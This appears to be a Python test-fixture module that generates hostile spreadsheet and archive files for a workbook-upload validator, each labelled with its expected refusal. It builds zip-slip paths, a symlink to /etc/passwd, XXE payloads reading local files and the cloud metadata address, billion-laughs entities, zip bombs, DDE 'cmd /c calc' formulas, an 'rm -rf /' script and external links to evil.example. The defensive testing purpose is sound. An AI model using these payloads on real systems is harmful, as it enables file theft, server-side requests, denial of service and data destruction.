"""Files that nobody means well with, each made by code: what they are, and why they must be refused."""

import io
import random
import struct
import zipfile
import zlib

from tansiq.engines.workbook.refusals import CELLS, LARGEST, MERGED, MOST_ROWS, PARTS, SHEETS, STRINGS, STYLES

MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def links(*held: tuple[str, str, str, str]) -> str:
    """Relationships: each key, kind, target and mode."""
    made = "".join(
        f'<Relationship Id="{key}" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for key, kind, target, mode in held
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{made}</Relationships>'


def sheet(rows: str, before: str = "", after: str = "") -> str:
    return f"{HEAD}<worksheet {MAIN}>{before}<sheetData>{rows}</sheetData>{after}</worksheet>"


def words(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


GOOD_ROWS = (
    f'<row r="1">{words("A1", "code")}{words("B1", "value")}{words("C1", "method")}</row>'
    f'<row r="2">{words("A2", "trained")}<c r="B2"><v>12</v></c>{words("C2", "lists")}</row>'
)


def parts(**changed: str | bytes | None) -> dict[str, str | bytes]:
    """The parts of a small good workbook, some of them others."""
    held: dict[str, str | bytes | None] = {
        "[Content_Types].xml": (
            f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{TYPE}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{TYPE}.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": links(("r1", "officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": (
            f'{HEAD}<workbook {MAIN} xmlns:r="{REL}"><sheets>'
            '<sheet name="Answers" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": links(("r1", "worksheet", "worksheets/sheet1.xml", "")),
        "xl/worksheets/sheet1.xml": sheet(GOOD_ROWS),
        **{name.replace("__", "/").replace("_dot_", "."): data for name, data in changed.items()},
    }
    return {name: data for name, data in held.items() if data is not None}


SHEET, BOOK, STYLE, SHARED = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"
TYPES, RELS = "[Content_Types].xml", "xl/_rels/workbook.xml.rels"


def zipped(held: dict[str, str | bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as to:
        for name, data in held.items():
            to.writestr(name, data)
    return made.getvalue()


def book(**changed: str | bytes | None) -> bytes:
    return zipped(parts(**changed))


def with_part(name: str, data: str | bytes) -> bytes:
    return zipped({**parts(), name: data})


def noise(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)  # noqa: S311 -- the same file every time


def link(name: str) -> bytes:
    """A part that is a link out of its folder."""
    made = io.BytesIO(zipped(parts()))
    with zipfile.ZipFile(made, "a") as to:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        to.writestr(info, "/etc/passwd")
    return made.getvalue()


def doubled() -> bytes:
    made = io.BytesIO(zipped(parts()))
    with zipfile.ZipFile(made, "a") as to:
        to.writestr(SHEET.upper(), sheet(""))
    return made.getvalue()


def sealed() -> bytes:
    """Every part marked as encrypted."""
    content = bytearray(zipped(parts()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def lying_size() -> bytes:
    """A part that unpacks to more than its zip says."""
    data = b"<a>" + b" " * 300_000 + b"</a>"
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    small = press.compress(data) + press.flush()
    name = b"xl/lie.xml"
    crc = zlib.crc32(data[:90_000])
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(small), 90_000, len(name), 0)
    base = zipped(parts())
    return with_raw(base, name, local, small, (crc, 90_000))


def with_raw(base: bytes, name: bytes, local: bytes, small: bytes, told: tuple[int, int]) -> bytes:
    """A zip with one more part, written by hand into its directory: what that tells of its sum and its size."""
    crc, size = told
    end = base.rfind(b"PK\x05\x06")
    count, long, start = struct.unpack("<H2I", base[end + 10 : end + 20])
    directory = base[start : start + long]
    added = (
        struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, crc, len(small), size, len(name), 0, 0, 0, 0, 0, start
        )
        + name
    )
    body = base[:start] + local + name + small
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + 1, count + 1, long + len(added), len(body), 0)
    return body + directory + added + tail


def overlapping(times: int = 150) -> bytes:
    """Many names for one packed part: small to send, large to unpack."""
    made = bytearray(zipped({**parts(), "xl/one.xml": b" " * 99_000 + noise(1_000)}))
    end = made.rfind(b"PK\x05\x06")
    count, long, start = struct.unpack("<H2I", made[end + 10 : end + 20])
    directory = bytes(made[start : start + long])
    last = directory[directory.rfind(b"PK\x01\x02") :]
    added = b"".join(last[:46] + f"xl/{number:03}.xml".encode()[:10] for number in range(times))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count + times, count + times, long + len(added), start, 0)
    return bytes(made[:start]) + directory + added + tail


def bomb_of_many() -> dict[str, str | bytes]:
    return {**parts(), **{f"xl/{n}.xml": b" " * 700_000 + noise(9_000, n) for n in range(60)}}


def entities() -> str:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return f"{HEAD}<!DOCTYPE w [{lol}]><worksheet {MAIN}><sheetData>&l9;</sheetData></worksheet>"


def outside(where: str) -> str:
    return f'{HEAD}<!DOCTYPE w [<!ENTITY x SYSTEM "{where}">]><worksheet {MAIN}><sheetData>&x;</sheetData></worksheet>'


def many(what: str, times: int, opening: str = "", closing: str = "") -> str:
    return f"{opening}{what * times}{closing}"


def cells(times: int) -> str:
    row = "".join(f'<c r="{chr(65 + n % 26)}1"/>' for n in range(26))
    return sheet(f'<row r="1">{row * (times // 26 + 1)}</row>')


def table(*lines: str, codec: str = "utf-8") -> bytes:
    return "\n".join(lines).encode(codec)


HOSTILE: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty"),
    "blanks": (b" \r\n\t", "empty"),
    "too large": (b"code,value\n" + b"a,1\n" * (LARGEST // 4), "large"),
    "page as workbook": (b"<!doctype html><script>alert(1)</script>", "kind"),
    "page behind a mark": (b"\xef\xbb\xbf  <html>", "kind"),
    "drawing with script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "kind"),
    "pdf": (b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>", "kind"),
    "rich text": (b"{\\rtf1 {\\field}}", "kind"),
    "program": (b"MZ\x90\0" + noise(2_000), "kind"),
    "program of another system": (b"\x7fELF" + noise(500), "kind"),
    "image": (b"\x89PNG\r\n\x1a\n" + noise(500), "kind"),
    "gzip bomb": (b"\x1f\x8b\x08" + noise(500), "kind"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "kind"),
    "old workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(4_000), "old"),
    "text document": (zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}), "kind"),
    "open document": (zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "kind"),
    "any zip": (zipped({"a.txt": "a"}), "kind"),
    "cut in the middle": (book()[:-300], "broken"),
    "zip of noise": (b"PK\x03\x04" + noise(3_000), "broken"),
    "part of noise": (with_part(SHEET, noise(3_000)), "broken"),
    "bomb of one part": (with_part("xl/media/a.xml", b"\0" * 30_000_000), "ratio"),
    "bomb of many parts": (zipped(bomb_of_many()), "unpacked"),
    "overlapping parts": (overlapping(), "broken"),
    "too many parts": (zipped({**parts(), **{f"xl/a{n}.xml": "" for n in range(PARTS)}}), "parts"),
    "zip in a zip": (with_part("xl/media/inner.zip", zipped(parts(), zipfile.ZIP_STORED)), "nested"),
    "size that lies": (lying_size(), "size"),
    "sealed": (sealed(), "sealed"),
    "slip": (with_part("../../etc/cron.d/x", "a"), "name"),
    "slip inside": (with_part("xl/../../x.xml", "a"), "name"),
    "absolute": (with_part("/etc/x", "a"), "name"),
    "drive": (with_part("C:/x.xml", "a"), "name"),
    "backslash": (with_part("xl\\..\\x.xml", "a"), "name"),
    "long name": (with_part("xl/" + "n" * 300, "a"), "name"),
    "turned name": (with_part("xl/\u202excod.exe", "a"), "name"),
    "link": (link("xl/passwd"), "name"),
    "two of a name": (doubled(), "twice"),
    "billion laughs": (book(**{SHEET: entities()}), "dtd"),
    "file of the machine": (book(**{SHEET: outside("file:///etc/passwd")}), "dtd"),
    "address inside": (book(**{BOOK: outside("http://169.254.169.254/")}), "dtd"),
    "entities in links": (book(**{RELS: links().replace("<Rel", "<!DOCTYPE r [<!ENTITY a 'b'>]><Rel", 1)}), "dtd"),
    "other encoding": (book(**{SHEET: sheet(GOOD_ROWS).encode("utf-16")}), "encoding"),
    "other encoding by name": (book(**{SHEET: sheet(GOOD_ROWS).replace("UTF-8", "utf-7")}), "encoding"),
    "external sheet": (book(**{RELS: links(("r1", "worksheet", "http://evil.example/s.xml", "External"))}), "external"),
    "external sheet disguised": (
        book(**{RELS: links(("r1", "worksheet", "http://evil.example/s.xml", "&#69;xternal"))}), "external"
    ),
    "external book": (with_part("xl/externalLinks/externalLink1.xml", "<externalLink/>"), "external"),
    "data connection": (with_part("xl/connections.xml", "<connections/>"), "external"),
    "template from afar": (
        with_part("xl/worksheets/_rels/sheet1.xml.rels", links(("r9", "attachedTemplate", "\\\\evil\\t", "External"))),
        "external",
    ),
    "macros": (with_part("xl/vbaProject.bin", noise(300)), "macros"),
    "macros by type": (
        book(**{TYPES: str(parts()[TYPES]).replace("sheet.main", "sheet.macroEnabled.main")}),
        "macros",
    ),
    "macro sheet": (with_part("xl/macrosheets/sheet1.xml", "<xm/>"), "macros"),
    "embedded object": (with_part("xl/embeddings/oleObject1.bin", noise(300)), "embedded"),
    "control": (with_part("xl/activeX/activeX1.xml", "<ax/>"), "embedded"),
    "dde link": (with_part("xl/odd.xml", '<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'), "dde"),
    "dde in a cell": (
        book(**{SHEET: sheet("<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row>")}), "dde"
    ),
    "dimension that lies": (book(**{SHEET: sheet(GOOD_ROWS, '<dimension ref="A1:XFD1048576"/>')}), "dimension"),
    "cell at the end of the world": (
        book(**{SHEET: sheet(GOOD_ROWS + '<row r="3"><c r="XFD3"><v>1</v></c></row>')}), "far"
    ),
    "row at the end of the world": (
        book(**{SHEET: sheet(f'{GOOD_ROWS}<row r="1048576"><c><v>1</v></c></row>')}), "far"
    ),
    "too many cells": (zipped({**parts(), SHEET: cells(CELLS)}, zipfile.ZIP_DEFLATED), "ratio"),
    "too many styles": (with_part(STYLE, many("<xf/>", STYLES + 1, "<s>", "</s>")), "ratio"),
    "all cells merged": (
        book(**{SHEET: sheet(GOOD_ROWS, after="<mergeCells>" + "".join(
            f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, MERGED + 2)) + "</mergeCells>")}), "merged"
    ),
    "too many sheets": (zipped({**parts(), **{f"xl/worksheets/s{n}.xml": sheet("") for n in range(SHEETS)}}), "sheets"),
    "one endless string": (book(**{SHEET: sheet(f'<row r="1">{words("A1", noise(6_000).hex())}</row>')}), "strings"),
    "no sheet at all": (book(**{SHEET: None}), "broken"),
    "sheet that never closes": (book(**{SHEET: sheet(GOOD_ROWS)[:-30]}), "broken"),
    "quotation that never closes": (table("code,value", 'a,"1', *["b,2"] * 50), "quote"),
    "quotation in the middle": (table("code,value", 'a,"1"2"'), "quote"),
    "too many columns": (table("code" + ",value" * 80), "columns"),
    "too many rows": (table("code,value", *["a,1"] * (MOST_ROWS + 30)), "rows"),
    "nought octets": (b"code,value\na,\0\0\x001\n\0\xff\xfe", "encoding"),
    "cell without end": (table("code,value", "a," + "9" * 5_000), "strings"),
}  # fmt: skip


def rare(text: str, times: int, opening: str, closing: str) -> str:
    """Many of a thing, each with a number of its own, so that it packs like honest data."""
    dice = random.Random(times)  # noqa: S311 -- as above
    return opening + "".join(text.format(dice.getrandbits(14)) for _ in range(times)) + closing


HOSTILE |= {
    "too many honest cells": (
        book(**{SHEET: rare('<c s="{}"/>', CELLS + 1, f'<worksheet {MAIN}><sheetData><row r="1">',
                            "</row></sheetData></worksheet>")}), "cells"
    ),
    "too many honest styles": (with_part(STYLE, rare('<xf a="{}"/>', STYLES + 1, "<s>", "</s>")), "styles"),
    "too many honest strings": (with_part(SHARED, rare("<si>{}</si>", STRINGS + 1, "<s>", "</s>")), "strings"),
}  # fmt: skip
